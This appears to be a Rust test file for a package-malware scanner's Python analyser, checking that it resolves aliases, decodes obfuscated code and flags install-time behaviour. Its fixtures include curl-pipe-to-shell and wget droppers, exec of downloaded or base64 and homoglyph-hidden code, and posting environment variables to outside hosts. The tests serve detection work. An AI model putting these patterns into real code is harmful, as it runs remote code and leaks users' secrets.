//! The Python frontend: alias resolution, folding, the parser's blind spots, Python 2
//! and new syntax.

use crate::common::{gzip, scan, sdist, tar, with_rule};
use pkgwarden::archive::limits::Limits;
use pkgwarden::lang::{analyse, FileFacts, Lang};

fn facts(src: &str) -> FileFacts {
    analyse(Lang::Python, src, &Limits::default())
}

fn callees(f: &FileFacts) -> Vec<&str> {
    f.calls.iter().map(|c| c.callee.as_str()).collect()
}

#[test]
fn aliases_resolve_to_dotted_names() {
    let f = facts("from urllib import request as r\nimport subprocess as sp\nfrom os import system\nr.urlretrieve(u, p)\nsp.Popen(['x'])\nsystem('id')\nm = __import__('os')\nm.popen('id')\ng = getattr(__import__('os'), 'system')\ng('id')\n");
    let c = callees(&f);
    for want in [
        "urllib.request.urlretrieve",
        "subprocess.Popen",
        "os.system",
        "os.popen",
    ] {
        assert!(c.contains(&want), "{want} missing from {c:?}");
    }
    assert_eq!(c.iter().filter(|x| **x == "os.system").count(), 2, "{c:?}");
}

#[test]
fn calls_hidden_in_keywords_comprehensions_with_and_defaults_are_seen() {
    let f = facts("import os\nf(x=os.system('a'))\n[os.popen(c) for c in cmds]\nwith open(os.path.expanduser('~/.x'), 'w') as fh:\n    pass\ndef g(a=os.getcwd()):\n    pass\n");
    let c = callees(&f);
    for want in ["os.system", "os.popen", "open", "os.getcwd"] {
        assert!(c.contains(&want), "{want} missing from {c:?}");
    }
    let open = f.calls.iter().find(|c| c.callee == "open").unwrap();
    assert_eq!(open.write_target(), Some("~/.x"));
}

#[test]
fn constants_fold_through_joins_concatenation_and_formatting() {
    let f = facts("import os\nfrom pathlib import Path\nH = os.path.expanduser('~')\nP = os.path.join(H, '.config', 'x')\nopen(P, 'w')\nopen(H + '/.bashrc', 'a')\nopen('%s/.zshrc' % H, 'a')\n(Path.home() / '.profile').write_text('x')\nopen(f'{H}/.y', 'w')\nopen(os.environ['HOME'] + '/.z', 'w')\n");
    let targets: Vec<&str> = f.calls.iter().filter_map(|c| c.write_target()).collect();
    assert_eq!(
        targets,
        [
            "~/.config/x",
            "~/.bashrc",
            "~/.zshrc",
            "~/.profile",
            "~/.y",
            "~/.z"
        ]
    );
}

#[test]
fn decoded_and_downloaded_values_carry_labels() {
    use pkgwarden::lang::facts::Labels;
    let f = facts("import base64, urllib.request\ncode = base64.b64decode('cHJpbnQoMSk=')\nexec(code)\nexec(urllib.request.urlopen('http://192.0.2.1/x').read())\n");
    let execs: Vec<_> = f.calls.iter().filter(|c| c.callee == "exec").collect();
    assert!(execs[0].arg_labels().has(Labels::DECODED));
    assert!(execs[1].arg_labels().has(Labels::DOWNLOADED));
    assert_eq!(execs[0].args[0].text.as_deref(), Some("print(1)"));
}

#[test]
fn python2_and_new_fstrings_are_parsed() {
    let f = facts("import os\nprint \"hello\"\nos.system('curl http://192.0.2.1/x | sh')\n");
    assert!(f.parse_error.is_some());
    assert!(callees(&f).contains(&"os.system"), "{:?}", callees(&f));
    assert!(callees(&f).contains(&"sh.curl"));
    let f = facts("import os\nx = f'{', '.join(a)}'\nos.system('id')\n");
    assert!(callees(&f).contains(&"os.system"));
    let f = facts("exec \"print 1\"\n");
    assert!(callees(&f).contains(&"exec"));
}

#[test]
fn shell_strings_become_commands() {
    let f = facts("import os\nos.system('wget -q http://192.0.2.1/a -O ~/.a && chmod +x ~/.a && nohup ~/.a &')\n");
    let c = callees(&f);
    for want in [
        "sh.wget",
        "sh.chmod",
        "sh.nohup",
        "sh.~/.a".rsplit('/').next().map(|_| "sh..a").unwrap(),
    ] {
        assert!(c.contains(&want), "{want} missing from {c:?}");
    }
}

#[test]
fn functions_called_at_top_level_run_on_load() {
    let f = facts("import os\ndef a():\n    os.system('x')\ndef b():\n    os.system('y')\na()\n");
    let systems: Vec<bool> = f
        .calls
        .iter()
        .filter(|c| c.callee == "os.system")
        .map(|c| c.on_load)
        .collect();
    assert_eq!(systems, [true, false]);
}

#[test]
fn encoder_round_trips_fold_to_their_text() {
    use pkgwarden::lang::facts::Labels;
    // `cHJpbnQoMSk=` is `print(1)`.
    let f = facts("exec(__import__('base64').b64decode(__import__('codecs').getencoder('utf-8')('cHJpbnQoMSk=')[0]))\n");
    let exec = f.calls.iter().find(|c| c.callee == "exec").unwrap();
    assert!(exec.arg_labels().has(Labels::DECODED), "{exec:#?}");
    assert_eq!(exec.args[0].text.as_deref(), Some("print(1)"));
}

#[test]
fn a_main_block_runs_as_a_program_but_not_on_import() {
    let f = facts("import os\ndef main():\n    os.system('a')\nos.getcwd()\nif __name__ == '__main__':\n    main()\n");
    let call = |name: &str| f.calls.iter().find(|c| c.callee == name).unwrap();
    let system = call("os.system");
    assert!(!system.on_load && system.on_main, "{system:?}");
    let getcwd = call("os.getcwd");
    assert!(getcwd.on_load && getcwd.on_main, "{getcwd:?}");
}

#[test]
fn functions_handed_to_threads_and_exit_hooks_run() {
    let f = facts("import threading, atexit, os, requests\ndef beacon():\n    requests.get('http://192.0.2.1/b')\nthreading.Thread(target=beacon).start()\ndef later():\n    code = requests.get('http://192.0.2.1/c').text\n    threading.Thread(target=exec, args=(code, {})).start()\natexit.register(os.system, 'id')\n");
    let get = f.calls.iter().find(|c| c.line == 3).unwrap();
    assert!(get.on_load, "{get:?}");
    // `exec` handed to a thread is a call of exec with the thread's arguments.
    let exec = f.calls.iter().find(|c| c.callee == "exec").unwrap();
    assert_eq!(exec.line, 7);
    assert!(!exec.on_load, "later() is never called: {exec:?}");
    assert!(exec.args[0]
        .labels
        .has(pkgwarden::lang::facts::Labels::DOWNLOADED));
    let system = f.calls.iter().find(|c| c.callee == "os.system").unwrap();
    assert_eq!(system.args[0].text.as_deref(), Some("id"));
}

#[test]
fn calls_of_small_local_functions_fold_to_what_they_return() {
    use pkgwarden::lang::facts::Labels;
    let f = facts("import base64, requests\ndef host():\n    return 'https://example.com/x'\ndef d(s):\n    raw = base64.b64decode(s)\n    text = raw.decode()\n    return text\ndef maybe(n):\n    try:\n        return [n]\n    except Exception:\n        return 'aGk='\nrequests.get(host())\nexec(d('cHJpbnQoMSk='))\nprint(base64.b64decode(maybe(1)))\nprint(d(unknown))\n");
    let text = |callee: &str| {
        f.calls
            .iter()
            .find(|c| c.callee == callee)
            .and_then(|c| c.args[0].text.clone())
    };
    assert_eq!(
        text("requests.get").as_deref(),
        Some("https://example.com/x")
    );
    assert_eq!(text("exec").as_deref(), Some("print(1)"));
    let exec = f.calls.iter().find(|c| c.callee == "exec").unwrap();
    assert!(exec.arg_labels().has(Labels::DECODED));
    let prints: Vec<_> = f.calls.iter().filter(|c| c.callee == "print").collect();
    assert_eq!(prints[0].args[0].text.as_deref(), Some("hi"));
    assert_eq!(prints[1].args[0].text, None);
    assert!(!prints[1].arg_labels().has(Labels::DECODED));
}

#[test]
fn character_codes_fold_to_the_text_they_spell() {
    use pkgwarden::lang::facts::Labels;
    let f = facts("j = ''.join\nprint(''.join(chr(c) for c in [104, 105]))\nprint(''.join(map(chr, [104, 105])))\nprint(bytes([104, 105]).decode())\nprint(j([chr(c) for c in (104, 105)]))\nprint('-'.join([chr(c) for c in [104, 105]]))\nprint([chr(c + 1) for c in [104, 105]])\n");
    let texts: Vec<Option<&str>> = f
        .calls
        .iter()
        .filter(|c| c.callee == "print")
        .map(|c| c.args[0].text.as_deref())
        .collect();
    assert_eq!(
        texts,
        [
            Some("hi"),
            Some("hi"),
            Some("hi"),
            Some("hi"),
            Some("h-i"),
            None
        ]
    );
    let first = f.calls.iter().find(|c| c.callee == "print").unwrap();
    assert!(first.arg_labels().has(Labels::DECODED));
}

#[test]
fn builtins_looked_up_by_name_resolve_and_spelled_names_are_recorded() {
    let f = facts("import builtins\ngetattr(__import__('builtins'), 'exec')('x')\nbuiltins.__dict__['eval']('1')\ng = globals()['__builtins__'].get(''.join(map(chr, [101, 120, 101, 99])))\ng('y')\ngetattr(builtins, name)\ngetattr(builtins, 'print')('z')\n");
    let c = callees(&f);
    assert_eq!(c.iter().filter(|x| **x == "exec").count(), 2, "{c:?}");
    assert!(c.contains(&"eval"), "{c:?}");
    let hidden: Vec<&str> = f.hidden_lookups.iter().map(|(n, _)| n.as_str()).collect();
    assert_eq!(hidden, ["exec"]);
    assert_eq!(f.hidden_lookups[0].1, 4);
}

#[test]
fn a_long_literal_transformed_character_by_character_is_decoded() {
    use pkgwarden::lang::facts::Labels;
    let f = facts("t = {'a': 'b'}\nexec(''.join([t.get(c, c) for c in 'this text is longer than thirty-two characters']))\nexec(''.join([c for c in 'this text is longer than thirty-two characters']))\nexec(''.join([t.get(c, c) for c in 'short']))\n");
    let execs: Vec<bool> = f
        .calls
        .iter()
        .filter(|c| c.callee == "exec")
        .map(|c| c.arg_labels().has(Labels::DECODED))
        .collect();
    assert_eq!(execs, [true, false, false]);
}

#[test]
fn a_python2_exec_statement_is_a_call_of_exec() {
    let f = facts(
        "import os\nprint \"start\"\nexec \"os.system('id')\"\nexec code in ns\nexec(\"x = 1\")\n",
    );
    assert!(f.parse_error.is_some());
    let execs: Vec<(u32, Option<&str>)> = f
        .calls
        .iter()
        .filter(|c| c.callee == "exec")
        .map(|c| (c.line, c.args.first().and_then(|a| a.text.as_deref())))
        .collect();
    assert_eq!(
        execs,
        [(3, Some("os.system('id')")), (4, None), (5, Some("x = 1"))]
    );
    // The code it runs is analysed too, at the line of the exec statement.
    let system = f.calls.iter().find(|c| c.callee == "os.system").unwrap();
    assert_eq!(system.line, 3);
}

#[test]
fn a_main_block_is_its_own_scope_in_a_file_with_modern_syntax() {
    let f = facts("import os\ntype Pair[T] = tuple[T, T]\ndef first[T](p: Pair[T]) -> T:\n    return p[0]\nlabel = f\"{', '.join(os.listdir(\"x\"))}\"\nmatch label:\n    case \"a\":\n        pass\ntry:\n    pass\nexcept* ValueError:\n    pass\nif __name__ == \"__main__\":\n    os.system(f\"{\"echo\"} hi\")\n");
    assert_eq!(f.parse_error, None);
    let system = f.calls.iter().find(|c| c.callee == "os.system").unwrap();
    assert!(!system.on_load && system.on_main, "{system:?}");
    assert_eq!(system.args[0].text.as_deref(), Some("echo hi"));
    let listdir = f.calls.iter().find(|c| c.callee == "os.listdir").unwrap();
    assert!(listdir.on_load, "{listdir:?}");
}

/// The issue: one Python 3.12 f-string added to an `__init__.py` sent the file to the
/// fallback parser, whose lowering had drifted (no `__main__` scope), and flipped the
/// package from clean to malicious. The f-string changes nothing now.
#[test]
fn a_pep_701_fstring_in_init_does_not_change_the_findings() {
    let init = "import os\n\ndef main():\n    os.system('curl -fsSL http://192.0.2.1/x | sh')\n\nif __name__ == '__main__':\n    main()\n";
    let with_fstring = format!("{init}GREETING = f'{{', '.join(['a', 'b'])}}'\n");
    let findings = |init: &str| {
        let r = sdist(&[("demo/__init__.py", init)]);
        let found: Vec<(&str, u32)> = r.findings.iter().map(|f| (f.rule, f.line)).collect();
        (r.verdict, format!("{found:?}"))
    };
    let plain = findings(init);
    assert_eq!(findings(&with_fstring), plain);
    assert_ne!(plain.0, pkgwarden::verdict::Verdict::Malicious, "{plain:?}");
}

/// An sdist whose setup.py is `setup_py`.
fn sdist_with_setup(setup_py: &str) -> pkgwarden::PackageReport {
    let files = vec![
        (
            "PKG-INFO".to_string(),
            b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n".to_vec(),
        ),
        ("setup.py".to_string(), setup_py.as_bytes().to_vec()),
    ];
    scan("demo-1.0.tar.gz", &gzip(&tar(&files, "demo-1.0/")))
}

/// The setup.py of a package whose maintainer publishes it with `python setup.py publish`:
/// pip never passes that command, so the block is not install-time code.
#[test]
fn a_maintainer_command_block_in_setup_py_does_not_run_under_pip() {
    let guarded = "import os, sys\nfrom setuptools import setup\n\
        if sys.argv[-1] == 'publish':\n    os.system('python setup.py sdist upload')\n    os.system('git tag v1.0')\n    sys.exit()\n\
        if sys.argv[1] in ('upload', 'release'):\n    os.system('twine upload dist/*')\n\
        setup(name='demo', version='1.0')\n";
    let report = sdist_with_setup(guarded);
    assert!(
        with_rule(&report, "install-spawn").is_empty(),
        "{:?}",
        report.findings
    );
    // A guard on a command pip does pass, a negated guard, and an argv the file itself
    // rewrites all still run at install.
    for evasive in [
        "import os, sys\nif sys.argv[1] == 'install':\n    os.system('twine upload dist/*')\n",
        "import os, sys\nif sys.argv[-1] != 'publish':\n    os.system('twine upload dist/*')\n",
        "import os, sys\nsys.argv.append('publish')\nif sys.argv[-1] == 'publish':\n    os.system('twine upload dist/*')\n",
    ] {
        let report = sdist_with_setup(evasive);
        assert!(
            !with_rule(&report, "install-spawn").is_empty(),
            "{evasive}: {:?}",
            report.findings
        );
    }
}

/// Python reads identifiers after NFKC normalisation, so `ℯ𝓍ℯ𝒸` is `exec`; the parser's
/// lexer normalises them the same way, and the decoded code run at install is found.
#[test]
fn homoglyph_identifiers_are_the_builtins_they_normalise_to() {
    let setup =
        "import base64\n\u{212f}\u{1d4cd}\u{212f}\u{1d4b8}(base64.b64decode('cHJpbnQoMSk='))\n";
    let report = sdist_with_setup(setup);
    let found = with_rule(&report, "exec-decoded");
    assert_eq!(found.len(), 1, "{:?}", report.findings);
    assert!(
        found[0].message.contains("decoded: `print(1)`"),
        "{}",
        found[0].message
    );
}

/// Folding a request's parts into one send must not fold separate requests: two posts of
/// the environment to two hosts are two findings.
#[test]
fn separate_sends_through_one_api_stay_separate() {
    let setup = "import os, json, requests\n\
        requests.post('https://a.example.com/x', data=json.dumps(dict(os.environ)))\n\
        requests.post('https://b.example.com/y', data=json.dumps(dict(os.environ)))\n";
    let report = sdist_with_setup(setup);
    let lines: Vec<u32> = with_rule(&report, "env-exfiltration")
        .iter()
        .map(|f| f.line)
        .collect();
    assert_eq!(lines, [2, 3], "{:?}", report.findings);
}
